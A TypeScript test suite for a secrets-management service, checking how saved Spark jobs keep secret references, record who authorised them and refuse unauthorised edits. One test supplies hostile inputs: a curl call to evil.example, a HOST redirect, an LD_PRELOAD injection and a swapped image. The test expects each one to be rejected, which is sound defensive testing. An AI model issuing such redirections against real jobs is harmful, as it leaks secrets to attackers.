import { StrongroomError } from '@strongroom/contract';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type LaunchWorld, openLaunchWorld } from '../../testing/launch-world.ts';
import { describeEachStore } from '../../testing/stores.ts';
import { hasSameUses } from './save-check.ts';
import type { SparkJobInput } from './spark-job/document.ts';
import { ReferenceUses } from './uses.ts';

const secret = (key: string, scope: 'domain' | 'global' = 'domain') => ({ scope, source: 'managed', key });

async function refusalOf(work: Promise<unknown>): Promise<StrongroomError> {
  try {
    await work;
  } catch (error) {
    if (error instanceof StrongroomError) return error;
    throw error;
  }
  throw new Error('It was not refused');
}

describeEachStore('saving a Spark job', (_, database) => {
  let world: LaunchWorld;
  let bundle: string;

  beforeAll(async () => {
    world = await openLaunchWorld({ database });
    await world.addSecret(world.finance, 'db-password', { value: 'pw-of-finance' });
    await world.addSecret(world.finance, 'db-fields', { fields: { user: 'u', password: 'p' } });
    await world.addSecret(world.global, 'shared', { value: 'pw-of-all' });
    await world.addSecret(world.finance, 'vault-key', { value: 'only-olga' });
    await world.addSecret(world.other, 'theirs', { value: 'pw-of-other' });
    bundle = `bnd_${world.finance.id.slice(4)}x`;
    const by = { created_at: 1, created_by: 'system' };
    // vault-key is in a bundle that nobody but the owner may use.
    await world.test.store.execute('test.rows', {
      insert: [
        {
          table: 'bundles',
          values: {
            id: bundle,
            scope_id: world.finance.id,
            name: 'careful',
            description: '',
            owner_id: world.idOf('olga'),
            is_default: 0,
            managed_by: null,
            revision: 1,
            ...by,
            updated_at: 1,
          },
        },
        {
          table: 'bundle_assets',
          values: {
            id: 'ast_1',
            bundle_id: bundle,
            scope_id: world.finance.id,
            asset_type: 'secret',
            selector_scope: 'domain',
            selector: 'vault-',
            is_prefix: 1,
            ...by,
          },
        },
      ],
    });
  });
  afterAll(() => world.close());

  const save = async (by: string, input: SparkJobInput & { readonly name: string }, bundleName?: string) =>
    world.jobs.create(await world.caller(by), world.finance, input.name, { input, bundle: bundleName });
  const update = async (by: string, name: string, input: SparkJobInput, ifMatch?: number) =>
    world.jobs.update(await world.caller(by), await world.asset(name), { input }, ifMatch);
  const usesOf = async (name: string) => {
    const { id } = await world.asset(name);
    return world.test.store.db
      .selectFrom('uses')
      .selectAll()
      .where('configuration_id', '=', id)
      .orderBy('pointer')
      .execute();
  };

  it('keeps references and who authorised them, shows no more than key and source', async () => {
    const shown = await save('ann', {
      name: 'first',
      command: ['true'],
      environment: [
        { name: 'PGPASSWORD', secret: secret('db-password') },
        { name: 'API_TOKEN', value: 'typed-in-plain' },
      ],
      sparkConfig: [{ name: 'spark.x', secret: 'secret://global/managed/shared' }],
      files: [{ name: 'conf/key', secret: { ...secret('db-fields'), field: 'password' } }],
    });
    expect(shown.document.environment[0]).toEqual({ name: 'PGPASSWORD', secret: secret('db-password') });
    expect(shown.warnings).toMatchObject([{ code: 'plain-secret', pointer: '/environment/1/value' }]);
    expect(shown).toMatchObject({
      name: 'first',
      domain: 'finance',
      bundle: 'default',
      suspended: false,
      revision: 1,
      createdBy: 'user:ann',
    });
    expect(shown.actions.every(({ allowed }) => allowed)).toBe(true);
    expect(await usesOf('first')).toMatchObject([
      {
        pointer: '/environment/0/secret',
        name: 'PGPASSWORD',
        reference: 'secret://domain/managed/db-password',
        authorised_by: world.idOf('ann'),
        kind: 'reference',
      },
      { pointer: '/files/0/secret', reference: 'secret://domain/managed/db-fields#password', target_field: 'password' },
      { pointer: '/sparkConfig/0/secret', target_scope_id: world.global.id },
    ]);
    const row = await world.test.store.db
      .selectFrom('configurations')
      .select('document')
      .where('name', '=', 'first')
      .executeTakeFirstOrThrow();
    expect(row.document).not.toContain('pw-of');
  });

  it('stops a save with references that are known not to resolve, and names each', async () => {
    const error = await refusalOf(
      save('ann', {
        name: 'broken',
        command: ['true'],
        environment: [
          { name: 'A', secret: secret('nope') },
          { name: 'B', secret: { ...secret('db-fields'), field: 'nope' } },
          { name: 'C', secret: secret('theirs') },
          { name: 'D', secret: { scope: 'domain', source: 'vault-prod', key: 'app/db' } },
          { name: 'E', secret: secret('DB-password') },
        ],
      }),
    );
    expect(error.code).toBe('reference_unresolved');
    expect(error.errors?.map(({ pointer, code, fixableBy }) => ({ pointer, code, fixableBy }))).toEqual([
      { pointer: '/environment/0/secret', code: 'reference_unresolved', fixableBy: ['MANAGE_SECRETS in finance'] },
      { pointer: '/environment/1/secret', code: 'reference_unresolved', fixableBy: ['MANAGE_SECRETS in finance'] },
      { pointer: '/environment/2/secret', code: 'reference_unresolved', fixableBy: ['MANAGE_SECRETS in finance'] },
      {
        pointer: '/environment/3/secret',
        code: 'reference_unresolved',
        fixableBy: ['CREATE_INTEGRATION in finance', 'MANAGE_ACCESS in finance'],
      },
      { pointer: '/environment/4/secret', code: 'reference_unresolved', fixableBy: ['MANAGE_SECRETS in finance'] },
    ]);
    expect(error.errors?.[0]?.message).toContain('secret://domain/managed/nope');
    await expect(world.asset('broken')).rejects.toThrow('There is no job broken');
  });

  it('needs USE, and says so only to who may see the secret', async () => {
    const error = await refusalOf(
      save('ann', { name: 'no-use', command: ['true'], environment: [{ name: 'A', secret: secret('vault-key') }] }),
    );
    expect(error.code).toBe('permission_missing');
    expect(error.errors).toMatchObject([
      { pointer: '/environment/0/secret', code: 'permission_missing', fixableBy: ['MANAGE_ACCESS in finance'] },
    ]);
    const shown = await save('olga', {
      name: 'olgas',
      command: ['true'],
      environment: [{ name: 'A', secret: secret('vault-key') }],
    });
    expect(shown.name).toBe('olgas');
    const denied = await world.test.store.db
      .selectFrom('audit_records')
      .select('principal_id')
      .where('action', '=', 'secret.use')
      .where('outcome', '=', 'denied')
      .execute();
    expect(denied).toEqual([{ principal_id: world.idOf('ann') }]);
  });

  it('lets nobody redirect a value that they may not use', async () => {
    const environment = [
      { name: 'A', secret: secret('vault-key') },
      { name: 'HOST', value: 'db.internal' },
    ];
    await save('olga', { name: 'shared-job', command: ['true'], environment });
    for (const change of [
      { command: ['curl', 'https://evil.example'], environment },
      { command: ['true'], environment: [environment[0] ?? { name: 'A' }, { name: 'HOST', value: 'evil.example' }] },
      { command: ['true'], environment, files: [{ name: 'x', content: '' }] },
      { command: ['true'], environment, workingDirectory: '/tmp' },
      { command: ['true'], environment: [...environment, { name: 'LD_PRELOAD', value: '/x.so' }] },
      {
        command: ['true'],
        environment: [
          { name: 'B', secret: secret('vault-key') },
          { name: 'HOST', value: 'db.internal' },
        ],
      },
      { command: ['true'], environment, image: 'evil/image' },
    ]) {
      const error = await refusalOf(update('ann', 'shared-job', change));
      expect(error.code).toBe('permission_missing');
      expect(error.errors?.[0]?.reference).toBe('secret://domain/managed/vault-key');
    }
    const resized = await update('ann', 'shared-job', {
      command: ['true'],
      environment,
      timeoutSeconds: 60,
      sizes: { driverCores: 2 },
    });
    expect(resized.document.timeoutSeconds).toBe(60);
    expect((await usesOf('shared-job'))[0]?.authorised_by).toBe(world.idOf('olga'));
  });

  it('keeps the authoriser of an unchanged reference, wherever it moves', async () => {
    await save('olga', {
      name: 'mixed',
      command: ['true'],
      environment: [{ name: 'A', secret: secret('db-password') }],
    });
    await update('ann', 'mixed', {
      command: ['false'],
      environment: [
        { name: 'B', secret: secret('shared', 'global') },
        { name: 'A', secret: secret('db-password') },
      ],
    });
    const uses = await usesOf('mixed');
    expect(uses.map(({ name, authorised_by: by }) => [name, by])).toEqual([
      ['B', world.idOf('ann')],
      ['A', world.idOf('olga')],
    ]);
  });

  it('writes nothing when a save changes nothing: no revision, no audit, whoever saves', async () => {
    const input = { command: ['true'], environment: [{ name: 'A', secret: secret('db-password') }] };
    await save('olga', { name: 'steady', ...input });
    const records = async () => {
      const rows = await world.test.store.db
        .selectFrom('audit_records')
        .select('sequence')
        .where('action', 'in', ['spark-job.update', 'secret.use'])
        .execute();
      return rows.length;
    };
    const before = { records: await records(), uses: await usesOf('steady') };
    const again = await update('ann', 'steady', { environment: input.environment, command: ['true'] }, 1);
    expect(again).toMatchObject({ revision: 1, updatedBy: 'user:olga' });
    expect({ records: await records(), uses: await usesOf('steady') }).toEqual(before);

    const changes: Parameters<typeof update>[2][] = [
      { ...input, timeoutSeconds: 60 },
      { ...input, environment: [...input.environment, { name: 'B', value: '' }] },
      { ...input, environment: [{ name: 'B', value: '' }, ...input.environment] },
      input,
    ];
    for (const [index, change] of changes.entries())
      expect((await update('olga', 'steady', change)).revision).toBe(index + 2);
    const asset = await world.asset('steady');
    const managed = await world.jobs.update(await world.caller('ann'), asset, { input, managedBy: 'argo' });
    expect(managed).toMatchObject({ revision: 6, managedBy: 'argo' });
  });

  it('is a new revision when the same text now stands for something else', async () => {
    await save('olga', {
      name: 'follows',
      command: ['true'],
      environment: ['A', 'B'].map((name) => ({ name, secret: secret('db-password') })),
    });
    const [a, b] = await usesOf('follows');
    if (a === undefined || b === undefined) throw new Error('It has two uses');
    expect(hasSameUses([a, b], [b, a])).toBe(true);
    for (const change of [
      { secret_id: 'sec_other' },
      { target_source_id: 'src_other' },
      { authorised_by: 'usr_other' },
      { pointer: '/environment/7/secret' },
    ])
      expect(hasSameUses([a, b], [a, { ...b, ...change }])).toBe(false);
    expect(hasSameUses([a, b], [a])).toBe(false);
  });

  it('reports unknown placeholders and records them as uses of Global', async () => {
    const shown = await save('ann', {
      name: 'legacy',
      command: ['true'],
      environment: [{ name: 'URL', value: 'x:${secrets.shared}@${secrets.unknown}' }],
    });
    expect(shown.warnings).toMatchObject([{ code: 'unknown-placeholder', pointer: '/environment/0/value' }]);
    expect(shown.document.environment[0]?.value).toBe('x:${secrets.shared}@${secrets.unknown}');
    expect(await usesOf('legacy')).toMatchObject([
      { kind: 'placeholder', target_key: 'shared', target_scope_id: world.global.id },
      { kind: 'placeholder', target_key: 'unknown', secret_id: null },
    ]);
  });

  it('is guarded by revision, name, idempotency and state', async () => {
    const job: SparkJobInput & { name: string } = { name: 'guarded', command: ['true'] };
    const idempotency = {
      subject: world.idOf('ann'),
      route: 'createSparkJob',
      key: 'k1',
      bodyHmac: new Uint8Array([1]),
    };
    const caller = await world.caller('ann');
    const first = await world.jobs.create(caller, world.finance, 'guarded', { input: job }, idempotency);
    const again = await world.jobs.create(caller, world.finance, 'guarded', { input: job }, idempotency);
    expect(again.id).toBe(first.id);
    expect((await refusalOf(save('ann', job))).code).toBe('already_exists');
    await update('ann', 'guarded', { command: ['false'] }, 1);
    expect((await refusalOf(update('ann', 'guarded', { command: ['true'] }, 1))).code).toBe('revision_mismatch');
    const asset = await world.asset('guarded');
    expect((await world.jobs.suspend(caller, asset, true)).suspended).toBe(true);
    expect((await refusalOf(world.runs.start(caller, asset))).code).toBe('state_conflict');
    await world.jobs.delete(caller, asset, 3);
    expect((await refusalOf(world.jobs.get(caller, asset))).code).toBe('not_found');
    expect((await save('ann', job)).id).not.toBe(first.id);
  });

  it('moves only into bundles that the saver owns', async () => {
    expect((await refusalOf(save('ann', { name: 'in-careful', command: ['true'] }, 'careful'))).code).toBe(
      'validation_failed',
    );
    expect((await save('olga', { name: 'in-careful', command: ['true'] }, 'careful')).bundle).toBe('careful');
    const page = await world.jobs.list(await world.caller('ann'), world.finance, {});
    expect(page.items.map(({ name }) => name)).not.toContain('in-careful');
  });

  it('finds where a reference is used, down to the field, and hides what is not the caller’s', async () => {
    const uses = new ReferenceUses(world.test.store, world.access, world.test.keys, {
      visibility: () => ({ usesIn: null }),
    });
    const find = async (by: string, reference: string, more = {}) =>
      uses.list(await world.caller(by), world.finance, { reference, ...more });
    expect((await find('ann', 'secret://domain/managed/db-fields')).items).toMatchObject([
      {
        configuration: 'first',
        pointer: '/files/0/secret',
        name: 'conf/key',
        reference: 'secret://domain/managed/db-fields#password',
      },
    ]);
    expect((await find('ann', 'secret://domain/managed/db-fields#user')).items).toEqual([]);
    expect((await find('ann', 'secret://global/managed/unknown')).items).toMatchObject([
      { kind: 'placeholder', configuration: 'legacy' },
    ]);
    await save(
      'olga',
      { name: 'hidden', command: ['true'], environment: [{ name: 'A', secret: secret('shared', 'global') }] },
      'careful',
    );
    const seen: unknown[] = [];
    let cursor: string | undefined;
    do {
      const page = await find('ann', 'secret://global/managed/shared', { limit: 1, cursor });
      seen.push(...page.items.map(({ configuration }) => configuration));
      cursor = page.nextCursor;
    } while (cursor !== undefined);
    expect(seen).toEqual(['first', 'mixed', 'legacy', undefined]);
    expect((await refusalOf(find('ann', 'hunter2'))).code).toBe('reference_malformed');
  });

  it('lists by name, with what each holds and what the caller may do', async () => {
    const vic = await world.caller('vic');
    const names: string[] = [];
    let cursor: string | undefined;
    do {
      const page = await world.jobs.list(vic, world.finance, { limit: 2, cursor });
      for (const item of page.items) names.push(item.name);
      expect(page.items[0]?.actions.find(({ action }) => action === 'spark-job.run')).toMatchObject({ allowed: false });
      cursor = page.nextCursor;
    } while (cursor !== undefined);
    expect(names).toEqual(names.toSorted());
    expect(names).toContain('first');
    expect((await world.jobs.list(vic, world.finance, { q: 'FIRS' })).items).toMatchObject([
      { name: 'first', references: 3 },
    ]);
    expect((await world.jobs.list(vic, world.finance, { q: '%' })).items).toEqual([]);
    expect((await refusalOf(world.jobs.list(vic, world.finance, { cursor: 'forged' }))).code).toBe('cursor_invalid');
  });
});
